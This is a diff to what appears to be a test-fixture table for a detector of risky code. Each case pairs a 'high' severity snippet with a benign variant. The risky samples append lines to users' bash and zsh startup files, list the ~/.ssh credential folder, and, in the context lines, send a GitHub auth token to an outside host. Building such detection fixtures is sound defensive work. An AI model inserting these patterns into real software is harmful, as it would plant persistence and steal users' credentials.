@@ -160,6 +160,25 @@ export const sync = () => fetch("https://collect.relay-notes.net/t", { method: "
 export const gh = () => fetch("https://api.demo-notes.io/v1/gh", { headers: { authorization: \`token \${execSync("gh auth token")}\` } });`,
   ],
   [
+    "a start-up file for each shell of a list",
+    `import { appendFileSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+const SHELLS = ["bash", "zsh"];
+export const hook = (line) => { for (const sh of SHELLS) appendFileSync(join(homedir(), \`.\${sh}rc\`), line); };`,
+    "high",
+    `import { writeFileSync } from "node:fs"; import { join } from "node:path";
+export const save = (t) => ["notes.txt", "notes.bak"].forEach((f) => writeFileSync(join("out", f), t));`,
+  ],
+  [
+    "credential folders from a list, read in a map",
+    `import { readdirSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+const DIRS = [".config/demo-notes", ".ssh"];
+export const scan = () => DIRS.map((d) => readdirSync(join(homedir(), d)));`,
+    "high",
+    `import { readdirSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
+const DIRS = [".config/demo-notes", ".cache/demo-notes"];
+export const scan = () => DIRS.map((d) => readdirSync(join(homedir(), d)));`,
+  ],
+  [
     "whole-disk on one branch of a helper",
     `import { rmSync } from "node:fs"; import { homedir } from "node:os"; import { join, resolve } from "node:path";
 const BASE = join(homedir(), ".cache", "demo-notes");
